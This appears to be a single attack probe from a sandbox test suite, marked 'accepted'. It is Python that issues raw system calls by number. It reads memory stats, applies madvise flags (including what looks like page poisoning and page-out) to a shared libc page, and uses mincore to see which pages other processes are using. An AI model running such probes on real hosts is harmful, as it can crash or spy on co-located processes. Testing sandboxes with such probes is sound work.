# /// attack
# tries = "Read how much memory the machine has left, share pages with others, push files out of the page cache."
# verdicts = ["accepted"]
# ///
import mmap

MERGEABLE, COLD, PAGEOUT, WIPE, REMOVE, POISON = 12, 20, 21, 18, 9, 100

def attack(root, worker):
    system_call("how full the machine is", {"x86_64": 99}.get(os.uname().machine, 179), (ctypes.c_ulong * 32)())
    own = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE)
    here = ctypes.addressof(ctypes.c_char.from_buffer(own))
    numpy = ctypes.cast(_libc.printf, ctypes.c_void_p).value & ~4095
    number = {"x86_64": 28}.get(os.uname().machine, 233)
    for advice in (MERGEABLE, COLD, PAGEOUT, WIPE, REMOVE, POISON):
        for address in (here, numpy):
            system_call(f"advice {advice}", number, ctypes.c_ulong(address), ctypes.c_ulong(4096), advice)
    seen = ctypes.create_string_buffer(4096)
    system_call("which pages others use", 27, ctypes.c_ulong(numpy), ctypes.c_ulong(4096), seen)
    return LOOT
